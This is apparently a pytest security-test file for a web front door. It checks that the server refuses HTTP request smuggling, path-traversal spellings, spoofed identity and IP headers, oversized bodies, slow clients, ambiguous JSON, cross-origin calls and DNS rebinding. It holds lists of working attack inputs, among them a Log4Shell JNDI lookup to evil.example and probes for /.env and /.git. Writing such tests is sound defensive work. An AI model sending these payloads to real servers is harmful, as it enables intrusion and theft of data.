"""Attacks on the HTTP surface of the front door (AP-HTP-01 to 12), each with a control that shows the door is open to
the same request made properly. What counts is whether a handler ran and how many answers came, not the status alone."""

import asyncio
import itertools
import time

import pytest
from tests.unit.front_door.rig import ALICE, connected, front_door, talk

from doorward.http.protocol import ProtocolLimits

pytestmark = pytest.mark.anyio

JSON = "Content-Type: application/json"
CODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: CHUNKED",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding\r\n: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding\xa0: chunked",
    b"transfer-encoding: chunked, ",
    b"TE: trailers\r\nTransfer-Encoding: ,chunked",
]
LENGTHS = [
    b"Content-Length: 5",
    b"Content-Length: +5",
    b"Content-Length: 5, 5",
    b"Content-Length: 5\r\nContent-Length: 6",
    b"Content-Length: 0x5",
    b"Content-Length:\x0b5",
    b"Content-Length: 5 ",
    b"Content-Length: -1",
    b"",
]
SECOND = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
FIRST = b"POST /api/chat HTTP/1.1\r\nHost: 127.0.0.1\r\n" + ALICE.encode() + b"\r\nContent-Type: application/json\r\n"


def smuggling() -> list[bytes]:
    """Every coding with every length, each followed by a second request that only one reading sees."""
    return [
        FIRST + coding + b"\r\n" + (length + b"\r\n" if length else b"") + b"\r\n0\r\n\r\n" + SECOND
        for coding, length in itertools.product(CODINGS, LENGTHS)
    ]


async def test_control_a_chunked_body_and_one_with_a_length_are_read() -> None:
    async with front_door() as rig:
        body = b'{"message":"hi"}'
        end = b"Connection: close\r\n"
        chunked = FIRST + end + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n"
        assert (await rig.send(chunked)).startswith(b"HTTP/1.1 200")
        assert (await rig.send(FIRST + end + b"Content-Length: %d\r\n\r\n" % len(body) + body)).startswith(
            b"HTTP/1.1 200"
        )
        assert (await rig.send(SECOND)).startswith(b"HTTP/1.1 200")
    assert rig.handlers.runs == 3


async def test_no_request_can_be_hidden_behind_another() -> None:
    """AP-HTP-01: 270 mutations of Transfer-Encoding and Content-Length bring one answer each, and run nothing."""
    payloads = smuggling()
    assert len(payloads) >= 200
    async with front_door(body_timeout=0.2) as rig:
        for start in range(0, len(payloads), 45):
            answers = await asyncio.gather(*[talk(rig.port, payload) for payload in payloads[start : start + 45]])
            assert {answer.count(b"HTTP/1.1 ") for answer in answers} == {1}
            assert {answer[9:10] for answer in answers} == {b"4"}
        assert rig.handlers.runs == 0
        assert (await rig.request("GET", "/")).status == 200


@pytest.mark.parametrize("pause", [False, True])
async def test_nothing_is_answered_after_a_refusal_however_it_is_cut(pause: bool) -> None:
    """AP-HTP-01: the second request comes in a packet of its own, also after the refusal has been sent."""
    async with front_door() as rig, connected(rig.port) as (reader, writer):
        writer.write(FIRST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n")
        if pause:
            async with asyncio.timeout(2):
                await reader.readuntil(b"\r\n\r\n")
        writer.write(b"0\r\n\r\n" + SECOND)
        try:
            rest = await asyncio.wait_for(reader.read(), 2)
        except ConnectionError:
            rest = b""
        assert b"200 OK" not in rest
        assert rig.handlers.runs == 0


@pytest.mark.parametrize(
    "header",
    [
        "X_Forwarded_For: 1.1.1.1",
        "Authorization_: Bearer alice-token",
        "X-A: 1\r\n X-B: 2",
        "Authorization: Bearer nobody\r\nAuthorization: Bearer alice-token",
        "Host: 127.0.0.1",
        "X-User-Id: 1\r\nX-User-Id: 2",
        "X-A: a\x00b",
        "X-A\t: a",
    ],
)
async def test_headers_with_two_readings_are_refused(header: str) -> None:
    """AP-HTP-02."""
    async with front_door() as rig:
        assert (await rig.request("GET", "/api/me", ALICE)).status == 200
        token = [] if "Authorization: B" in header else [ALICE]
        reply = await rig.request("GET", "/api/me", *token, header, "Host: 127.0.0.1")
    assert reply.status == 400
    assert rig.handlers.runs == 1


async def test_identity_headers_of_the_client_have_no_effect() -> None:
    """AP-HTP-02, AP-BYP-07."""
    claims = [
        "X-Amzn-Bedrock-AgentCore-Runtime-User-Id: root",
        "X-User: root",
        "X-Forwarded-User: root",
        "X-Request-Id: canary",
    ]
    async with front_door() as rig:
        reply = await rig.request("GET", "/api/me", ALICE, *claims)
        assert (await rig.request("GET", "/api/me", *claims)).status == 401
    assert reply.json["user"] == "alice"
    assert b"canary" not in reply.raw


async def test_addresses_cannot_be_made_up() -> None:
    """AP-HTP-03: 20 made-up addresses share one bucket; behind a trusted proxy each real one has its own."""
    names = ["X-Forwarded-For: 1.1.1.{}", "Forwarded: for=1.1.1.{}", "X-Real-IP: 1.1.1.{}", "True-Client-IP: 1.1.1.{}"]
    async with front_door(address_requests=5) as rig:
        replies = [await rig.request("GET", "/", names[n % 4].format(n)) for n in range(20)]
        assert [reply.status for reply in replies].count(200) == 5
    async with front_door(address_requests=5, trusted_proxies=("127.0.0.1/32",)) as rig:
        control = [await rig.request("GET", "/", f"X-Forwarded-For: 203.0.113.{n}") for n in range(20)]
        assert [reply.status for reply in control].count(200) == 20
        spoofed = [await rig.request("GET", "/", f"X-Forwarded-For: 1.1.1.{n}, 198.51.100.9") for n in range(20)]
        assert [reply.status for reply in spoofed].count(200) == 5
        rotated = [await rig.request("GET", "/", f"X-Forwarded-For: 2001:db8::{n:x}:1") for n in range(20)]
        assert [reply.status for reply in rotated].count(200) == 5


PATHS = [
    "/api/../api/me", "/./api/me", "/%2e%2e/api/me", "//api/me", "/api//me", "/api/me/", "/api%2fme", "/api/me;x=1",
    "/api/me%00", "/api/me%0a", "/api\\me", "/API/ME", "/api/me%20", "/api/me.json", "/api/%6d%65/..", "/%2fapi/me",
    "/api/me%3f", "/x/..%2fapi/me", "/api/%2e/me", "/api/me%2f", "/api/%c0%ae%c0%ae/me", "/api/me%252e", "/;/api/me",
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
async def test_no_spelling_of_a_path_opens_a_protected_route(path: str) -> None:
    """AP-HTP-04: with nobody's token nothing runs; with a good one, odd spellings are refused and not repaired."""
    async with front_door() as rig:
        assert (await rig.request("GET", path)).status in {400, 401, 403, 404}
        assert (await rig.request("GET", path, ALICE)).status in {400, 403, 404}
        assert rig.handlers.runs == 0
        assert (await rig.request("GET", "/api/me", ALICE)).status == 200


@pytest.mark.parametrize(
    ("method", "headers"),
    [
        ("GET", ["X-Original-URL: /"]),
        ("GET", ["X-Rewrite-URL: /"]),
        ("GET", ["X-Forwarded-Uri: /", "X-Forwarded-Prefix: /"]),
        ("GET", ["User-Agent: ELB-HealthChecker/2.0"]),
        ("GET", ["User-Agent: kube-probe/1.29"]),
        ("HEAD", []),
        ("OPTIONS", []),
        ("POST", ["X-HTTP-Method-Override: GET", "Content-Length: 0"]),
        ("TRACE", []),
        ("PROPFIND", []),
    ],
)
async def test_no_header_or_method_goes_around_authentication(method: str, headers: list[str]) -> None:
    """AP-HTP-04, AP-HTP-05."""
    async with front_door() as rig:
        reply = await rig.request(method, "/api/me", *headers)
        assert reply.status in {401, 403, 405}
        assert rig.handlers.runs == 0
        assert (await rig.request("HEAD", "/api/me", ALICE)).status == 200


async def test_what_is_too_large_is_refused_before_it_is_kept() -> None:
    """AP-HTP-06."""
    async with front_door() as rig:
        control = await rig.json("/api/chat", {"message": "a" * 60000}, ALICE)
        assert control.status == 200
        deep = b'{"message":"a","count":' + b"[" * 30000 + b"]" * 30000 + b"}"
        assert (await rig.request("POST", "/api/chat", ALICE, JSON, body=deep)).code == "invalid_json"
        assert (await rig.request("POST", "/api/chat", ALICE, JSON, body=b"x" * 300_000)).status == 413
        assert (await rig.request("GET", "/api/me?q=" + "a" * 5000, ALICE)).status == 414
        assert (await rig.request("GET", "/api/me", ALICE, "X-A: " + "a" * 20000)).status == 431
        bomb = await rig.request("POST", "/api/chat", ALICE, JSON, "Content-Encoding: gzip", body=b"\x1f\x8b\x08")
        assert bomb.code == "content_encoding"
        endless = FIRST + b"Transfer-Encoding: chunked\r\n\r\n" + b"1000\r\n" + b"a" * 4096 + b"\r\n"
        assert b" 413 " in await rig.send(endless, *[b"1000\r\n" + b"a" * 4096 + b"\r\n"] * 100, until_close=1.0)
    assert rig.handlers.runs == 1


async def test_slow_clients_are_closed_and_the_others_do_not_wait() -> None:
    """AP-HTP-07, F-13."""
    async with front_door(body_timeout=1.0, limits=ProtocolLimits(header_timeout=1.0, drain_timeout=0.2)) as rig:
        slow = [asyncio.create_task(rig.send(b"GET / HT", until_close=8)) for _ in range(100)]
        slow += [asyncio.create_task(rig.send(FIRST + b"Content-Length: 9\r\n\r\n{", until_close=8)) for _ in range(50)]
        await asyncio.sleep(0.2)
        before = time.monotonic()
        replies = [await rig.request("GET", "/api/me", ALICE) for _ in range(20)]
        assert {reply.status for reply in replies} == {200}
        assert time.monotonic() - before < 2.0
        answers = await asyncio.gather(*slow)
    assert {answer[9:12] for answer in answers[:100]} == {b"408"}
    assert {answer[9:12] for answer in answers[100:]} == {b"408"}
    assert rig.handlers.runs == 20


async def test_known_attacks_are_stopped_everywhere_but_in_the_prompt() -> None:
    """AP-HTP-08: a user may ask about an attack, and no other field may be one."""
    attack = "${${lower:j}ndi:ldap://evil.example/a}"
    async with front_door() as rig:
        assert (await rig.json("/api/chat", {"message": attack}, ALICE)).status == 200
        replies = [
            await rig.json("/api/chat", {"message": "a", "name": attack}, ALICE),
            await rig.request("GET", "/api/me?q=%24%7Bjndi:ldap://evil.example%7D", ALICE),
            await rig.request("GET", "/api/me", ALICE, f"User-Agent: {attack}"),
            await rig.request("GET", "/api/me", f"Cookie: s={attack}"),
            await rig.request("GET", "/api/me", f"Authorization: {attack}"),
            await rig.request("GET", "/wp-admin/setup", ALICE),
        ]
        assert {(reply.status, reply.code) for reply in replies} == {(403, "known_bad_input")}
        assert rig.handlers.runs == 1


TRICKS = [
    ["Content-Type: text/plain"], ["Content-Type: application/json; charset=utf-7"], ["Content-Type: text/json"],
    ["Content-Type: application/json, text/plain"], ["Content-Type: application/x-www-form-urlencoded"],
    ["Content-Type: multipart/form-data; boundary=a"], ["Content-Type:"], [], ["Content-Type: application/json; a=b"],
    ["Content-Type: application/json", "Content-Encoding: deflate"], ["Content-Type: application/json; charset=ibm037"],
]  # fmt: skip


@pytest.mark.parametrize("headers", TRICKS)
async def test_no_media_type_skips_the_reading_of_the_body(headers: list[str]) -> None:
    """AP-HTP-09."""
    async with front_door() as rig:
        body = b'{"message":"hi"}'
        assert (await rig.request("POST", "/api/chat", ALICE, *headers, body=body)).status == 415
        assert rig.handlers.runs == 0
        assert (await rig.request("POST", "/api/chat", ALICE, JSON, body=body)).status == 200


@pytest.mark.parametrize(
    "body",
    [
        b'{"message":"a","message":"b"}',
        b'{"message":"a","me\\u0073sage":"b"}',
        b'{"message":"a","count":NaN}',
        b'{"message":"a","count":99999999999999999999999999}',
        b'{"message":"\\udead"}',
        b'{"message":"a"}{"message":"b"}',
        b'{"message":"a",}',
        b'{"message":"a"/*x*/}',
        b"{'message':'a'}",
        b'{"message":"a\x00b"}',
        b'{"message":"a","count":01}',
        b'[{"message":"a"}]',
    ],
)
async def test_json_with_two_readings_reaches_nobody(body: bytes) -> None:
    """AP-HTP-10."""
    async with front_door() as rig:
        assert (await rig.request("POST", "/api/chat", ALICE, JSON, body=body)).status == 400
        assert rig.handlers.runs == 0


@pytest.mark.parametrize(
    "origin",
    ["https://evil.example", "null", "http://127.0.0.1:8001", "https://127.0.0.1:8000", "http://localhost.evil.example"],
)  # fmt: skip
async def test_pages_of_foreign_origins_may_not_call(origin: str) -> None:
    """AP-HTP-11."""
    async with front_door() as rig:
        for credential in (ALICE, "Cookie: s=alice"):
            reply = await rig.request("GET", "/api/me", credential, f"Origin: {origin}")
            assert (reply.status, reply.code) == (403, "origin_not_allowed")
            assert "access-control-allow-origin" not in reply.headers
        asked = [f"Origin: {origin}", "Access-Control-Request-Method: GET"]
        assert (await rig.request("OPTIONS", "/api/me", *asked)).status == 403
        login = await rig.request(
            "POST", "/login", f"Origin: {origin}", "Content-Type: application/x-www-form-urlencoded", body=b"username=a"
        )
        assert login.status == 403
        assert rig.handlers.runs == 0
        assert (await rig.request("GET", "/api/me", ALICE, "Origin: http://127.0.0.1:8000")).status == 200


async def test_a_name_that_was_made_to_point_here_gets_nothing() -> None:
    """AP-HTP-11: DNS rebinding."""
    async with front_door() as rig:
        reply = await rig.request("GET", "/api/me", ALICE, "Host: evil.example", "Origin: http://evil.example")
        assert reply.status == 421
        assert rig.handlers.runs == 0


DEBUG = [
    "/docs", "/redoc", "/metrics", "/debug", "/debug/pprof", "/.env", "/.git/HEAD", "/actuator/env", "/server-status",
    "/admin", "/console", "/graphql", "/swagger.json", "/phpinfo.php", "/trace", "/internal", "/api", "/api/",
]  # fmt: skip


async def test_what_is_not_in_the_inventory_does_not_exist_and_errors_tell_nothing() -> None:
    """AP-HTP-12."""
    async with front_door() as rig:
        for path in DEBUG:
            reply = await rig.request("GET", path, "Authorization: Bearer root-token")
            assert reply.status in {400, 403, 404}
            assert not leaks(reply.raw)
        assert not leaks((await rig.request("GET", "/broken")).raw)
        assert not leaks(await rig.send(b"GET / HTTP/9\r\n\r\n"))
        assert (await rig.request("GET", "/api/admin", "Authorization: Bearer root-token")).status == 200


def leaks(answer: bytes) -> list[bytes]:
    lowered = answer.lower()
    words = [
        b"traceback",
        b"uvicorn",
        b"python",
        b'file "',
        b"canary",
        b".py",
        b"\r\nserver:",
        b"httptools",
        b"doorward/",
    ]
    return [word for word in words if word in lowered]
